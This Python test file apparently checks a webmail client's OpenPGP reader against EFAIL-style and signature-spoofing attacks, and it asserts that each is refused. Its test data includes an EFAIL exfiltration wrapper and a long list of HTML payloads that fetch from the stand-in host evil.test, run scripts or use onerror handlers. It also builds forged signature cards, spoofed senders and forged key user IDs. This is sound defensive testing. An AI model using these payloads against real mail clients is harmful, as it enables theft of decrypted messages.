"""Mail made to deceive somebody who trusts OpenPGP: none of it does (T91, T92)."""

import base64
import re

import pytest
from playwright.sync_api import expect

from tests.browser.openpgp_mail import BEN, TEXT, encrypted, header, signed, wrapped
from tests.browser.test_openpgp_reading import _no_faults, gnupg, reader  # noqa: F401  fixtures
from webmail.message.openpgp_key import armor, octets_of_key, split_packets

pytestmark = pytest.mark.xdist_group("browser")
SECRET = "The secret is seven."
MIXED = 'Content-Type: multipart/mixed; boundary="m"\r\n\r\n'
HTML = "Content-Type: text/html; charset=utf-8\r\n\r\n"


def octets_of(message):
    armored = message.split("-----BEGIN PGP MESSAGE-----")[1].split("-----END")[0]
    lines = [line for line in armored.split() if not line.startswith("=")]
    return base64.b64decode("".join(lines))


def message_of(packets):
    octets = b"".join(bytes([0xC0 | t, 255]) + len(b).to_bytes(4, "big") + b for t, b in packets)
    armored = base64.encodebytes(octets).decode()
    return wrapped(f"-----BEGIN PGP MESSAGE-----\n\n{armored}-----END PGP MESSAGE-----\n")


def ciphertext(gnupg):  # noqa: F811
    return list(split_packets(octets_of(encrypted(gnupg, f"{TEXT}{SECRET}\r\n"))))


def refused(reader):  # noqa: F811
    reader.decrypt()
    said = reader.state("refused")
    assert "Nothing of it is shown" in said
    assert reader.page.locator('iframe[title="Decrypted text"]').count() == 0


def test_what_was_made_here_by_hand_is_decrypted_as_a_check_of_the_tests(reader, gnupg):  # noqa: F811
    reader.open(message_of(ciphertext(gnupg)))
    reader.decrypt()
    assert SECRET in reader.shown()


def test_ciphertext_without_integrity_protection_is_refused_t91(reader, gnupg):  # noqa: F811
    """The downgrade of EFAIL: the same octets in the older packet that has no such thing."""
    downgraded = [(9, body[1:]) if tag == 18 else (tag, body) for tag, body in ciphertext(gnupg)]
    reader.open(message_of(downgraded))
    refused(reader)


@pytest.mark.parametrize("place", [-1, -25, 40])
def test_changed_ciphertext_is_refused_t91(reader, gnupg, place):  # noqa: F811
    *first, (tag, body) = ciphertext(gnupg)
    changed = bytearray(body)
    changed[place] ^= 1
    reader.open(message_of([*first, (tag, bytes(changed))]))
    refused(reader)


def test_html_around_an_encrypted_part_never_joins_it_t91(reader, gnupg):  # noqa: F811
    """EFAIL's direct way out: an open attribute before, its end behind."""
    inner = encrypted(gnupg, f"{TEXT}{SECRET}\r\n", head="")
    reader.open(
        f"{header()}{MIXED}--m\r\n{HTML}<img src='http://evil.test/?\r\n--m\r\n{inner}"
        f"\r\n--m\r\n{HTML}'>\r\n--m--\r\n"
    )
    expect(
        reader.page.get_by_text("A part of this message is signed or encrypted.")
    ).to_be_visible()
    assert reader.card.count() == 0
    assert reader.page.get_by_role("button", name="Decrypt").count() == 0


def test_decrypted_html_fetches_nothing_and_runs_nothing_t91(reader, gnupg):  # noqa: F811
    hostile = """<base href=http://evil.test/><style>@import url(http://evil.test/css);
    body { background: url(http://evil.test/bg) }</style><link rel=stylesheet href=http://evil.test/l>
    <link rel=dns-prefetch href=//evil.test><img src=http://evil.test/a.png srcset=http://evil.test/b>
    <img src=/images/x/><video poster=http://evil.test/v src=http://evil.test/v></video>
    <svg><image href=http://evil.test/s /></svg><iframe src=http://evil.test/></iframe>
    <object data=http://evil.test/></object><p style="background:url(http://evil.test/p)">Hello</p>
    <table background=http://evil.test/t><td>x</table><form action=http://evil.test/><input></form>
    <script>parent.document.title='owned'</script><img src=x onerror=alert(1)>
    <a href="javascript:alert(1)">click</a><a href="http://evil.test/ok" ping=http://evil.test/p>go</a>
    <meta http-equiv=refresh content="0;url=http://evil.test/">"""
    reader.open(encrypted(gnupg, f"{HTML}{hostile}\r\n"))
    reader.asked.clear()
    reader.decrypt()
    assert "Hello" in reader.shown()
    reader.page.wait_for_timeout(500)
    assert not [each.url for each in reader.asked if "evil.test" in each.url]
    assert not [each.url for each in reader.asked if "/images/" in each.url]
    frame = reader.page.frame_locator('iframe[title="Decrypted text"]')
    inside = frame.locator("body").evaluate("body => body.innerHTML")
    assert not re.search(r"<(script|style|svg|iframe|form|base|meta|object|video)|on\w+=", inside)
    assert "javascript:" not in inside
    assert frame.locator("img[src]").count() == 0
    assert frame.get_by_text("go").get_attribute("rel") == "noopener noreferrer"
    # What the browser says of the document that was never shown: it refused.
    assert all(said.endswith("The action has been blocked.") for said in reader.faults)
    reader.faults.clear()
    policy = reader.context.request.get(f"{reader.home}/encryption/page/").headers
    assert "default-src 'none'; script-src 'none'" in policy["content-security-policy"]
    assert "img-src data:;" in policy["content-security-policy"]


def test_a_mail_cannot_draw_our_card_t92(reader):  # noqa: F811
    fake = (
        '<section class="card is-ok" data-pgp-state="verified" aria-label="Signature">'
        f"<p class='card-title' data-pgp-title>Signed by Ben {BEN}.</p></section>"
    )
    reader.open(f"{header()}{HTML}{fake}\r\n")
    expect(reader.page.locator("iframe[data-frame]")).to_be_visible()
    assert reader.page.locator("[data-pgp], [data-pgp-state], .card.is-ok").count() == 0
    text = f"Good signature from Ben <{BEN}>\r\n-----BEGIN PGP SIGNED MESSAGE-----\r\n\r\nhi\r\n"
    reader.open(f"{header()}{TEXT}{text}")
    expect(reader.card).to_contain_text("The block is not whole")


def test_a_signed_message_in_a_message_lends_it_nothing_t92(reader, gnupg):  # noqa: F811
    inner = signed(gnupg, f"{TEXT}Bens own words\r\n", gnupg.ben)
    reader.open(
        f"{header(sender='Eve <eve@evil.test>')}{MIXED}--m\r\n{TEXT}Eves words\r\n--m\r\n"
        f"Content-Type: message/rfc822\r\n\r\n{inner}\r\n--m--\r\n"
    )
    assert reader.page.locator("[data-pgp-state=verified], .card.is-ok").count() == 0
    outside = f"Content-Type: message/rfc822\r\n\r\n{inner}"
    reader.open(encrypted(gnupg, f"{MIXED}--m\r\n{TEXT}Eve\r\n--m\r\n{outside}\r\n--m--\r\n"))
    reader.decrypt()
    assert "Bens own words" not in reader.shown()
    reader.state("none")


@pytest.mark.parametrize(
    "kind",
    [
        "text before it, in one multipart/mixed",
        "an attached signature of something else",
        "a third part in multipart/signed",
        "encrypted part first, in multipart/mixed",
    ],
)
def test_a_signature_that_is_only_attached_is_no_signature_of_the_message_t92(
    reader,  # noqa: F811
    gnupg,  # noqa: F811
    kind,
):
    part = signed(gnupg, f"{TEXT}Bens words\r\n", gnupg.ben, head="")
    loose = part.split("--sig\r\n")[2].split("\r\n--sig--")[0]
    hostile = {
        "text before it, in one multipart/mixed": (
            f"{header()}{MIXED}--m\r\n{TEXT}Eves words\r\n--m\r\n{part}\r\n--m--\r\n"
        ),
        "an attached signature of something else": (
            f"{header()}{MIXED}--m\r\n{TEXT}Eves words\r\n--m\r\n{loose}\r\n--m--\r\n"
        ),
        "a third part in multipart/signed": signed(
            gnupg, f"{TEXT}Bens words\r\n", gnupg.ben
        ).replace("--sig--", f"--sig\r\n{TEXT}Eves words\r\n--sig--"),
        "encrypted part first, in multipart/mixed": encrypted(
            gnupg, f"{MIXED}--m\r\n{TEXT}Eves words\r\n--m\r\n{part}\r\n--m--\r\n"
        ),
    }[kind]
    reader.open(hostile)
    if "encrypted" in kind:
        reader.decrypt()
        reader.state("none")
        assert "Bens words" in reader.shown()
    reader.page.wait_for_timeout(300)
    assert reader.page.locator("[data-pgp-state=verified], .card.is-ok").count() == 0


def test_two_senders_are_not_both_vouched_for_t92(reader, gnupg):  # noqa: F811
    head = f"From: Eve <eve@evil.test>\r\n{header()}"
    reader.open(signed(gnupg, f"{TEXT}Hello\r\n", gnupg.ben, head=head))
    assert "does not name one sender" in reader.state("nobody")
    head = header(sender=f"Ben <{BEN}>, Eve <eve@evil.test>")
    reader.open(signed(gnupg, f"{TEXT}Hello\r\n", gnupg.ben, head=head))
    reader.state("nobody")


def test_a_display_name_with_an_address_is_not_the_sender_t92(reader, gnupg):  # noqa: F811
    head = header(sender=f'"Ben <{BEN}>" <eve@evil.test>')
    reader.open(signed(gnupg, f"{TEXT}Hello\r\n", gnupg.ben, head=head))
    assert "says it is from eve@evil.test" in reader.state("other")


def test_a_verified_key_that_claims_more_addresses_has_to_be_compared_again_t92(
    reader,  # noqa: F811
    gnupg,  # noqa: F811
):
    reader.verify(gnupg.eve)
    gnupg.run("--quick-add-uid", gnupg.eve, f"Ben <{BEN}>")
    reader.open(signed(gnupg, f"{TEXT}Hello\r\n", gnupg.eve))
    reader.state("other")
    reader.post(do="add-known", public=gnupg.public(gnupg.eve))
    reader.open(signed(gnupg, f"{TEXT}Hello\r\n", gnupg.eve))
    assert "does not prove who wrote it" in reader.state("unverified")


def test_a_revoked_and_an_expired_key_are_said_to_be(reader, gnupg):  # noqa: F811
    made = gnupg.make("Old <ben@hearth.test>", "")
    message = signed(gnupg, f"{TEXT}Hello\r\n", made)
    reader.post(do="add-known", public=gnupg.public(made))
    reader.verify(made)
    reader.open(message)
    reader.state("verified")
    gnupg.revoke(made)
    reader.post(do="add-known", public=gnupg.public(made))
    reader.open(message)
    assert "somebody else may have it" in reader.state("revoked")
    assert "withdrawn" in reader.card.inner_text()
    short = gnupg.run(
        *("--faked-system-time", "20200101T000000", "--passphrase", "", "--quick-generate-key"),
        *("Short <ben@hearth.test>", "future-default", "default", "1d"),
    )
    assert short == b""
    expired = gnupg.fingerprint_of("Short")
    late = ("--faked-system-time", "20200101T120000!")
    message = signed(gnupg, f"{TEXT}Hello\r\n", expired, *late)
    reader.post(do="add-known", public=gnupg.public(expired))
    reader.open(message)
    assert "The key has run out." in reader.state("unverified")
    assert "1 January 2020" in reader.card.inner_text()


def test_what_was_signed_before_its_key_was_replaced_holds_and_says_so(reader, gnupg):  # noqa: F811
    """Only a key that somebody else may have takes all it ever signed with it."""
    early = ("--faked-system-time", "20250101T000000", "--passphrase", "")
    gnupg.run(*early, "--quick-generate-key", "Replaced <ben@hearth.test>", "future-default")
    made = gnupg.fingerprint_of("Replaced")
    before = signed(gnupg, f"{TEXT}Hello\r\n", made, "--faked-system-time", "20250102T000000")
    late = signed(gnupg, f"{TEXT}Hello again\r\n", made)
    gnupg.replace(made, at="20250201T000000")
    reader.post(do="add-known", public=gnupg.public(made))
    reader.open(before)
    assert "Its owner has withdrawn the key." in reader.state("unverified")
    reader.open(late)
    assert "another one takes its place" in reader.state("revoked")


def test_a_withdrawn_or_forged_name_of_a_key_counts_for_nothing_t92(reader, gnupg):  # noqa: F811
    made = gnupg.make("Zed <zed@evil.test>", "")
    gnupg.run("--quick-add-uid", made, f"Ben <{BEN}>")
    message = signed(gnupg, f"{TEXT}Hello\r\n", made)
    reader.post(do="add-known", public=gnupg.public(made))
    reader.open(message)
    reader.state("unverified")
    gnupg.run("--quick-revoke-uid", made, f"Ben <{BEN}>")
    reader.post(do="add-known", public=gnupg.public(made))
    reader.open(message)
    reader.state("other")
    packets = list(
        split_packets(octets_of_key(gnupg.public(gnupg.make("Yan <yan@evil.test>", ""))))
    )
    forged = [packets[0], (13, f"Ben <{BEN}>".encode()), *packets[1:]]
    octets = b"".join(bytes([0xC0 | t, 255]) + len(b).to_bytes(4, "big") + b for t, b in forged)
    reader.post(do="add-known", public=armor(octets, "PUBLIC"))
    reader.open(signed(gnupg, f"{TEXT}Hello\r\n", gnupg.fingerprint_of("Yan")))
    reader.state("other")
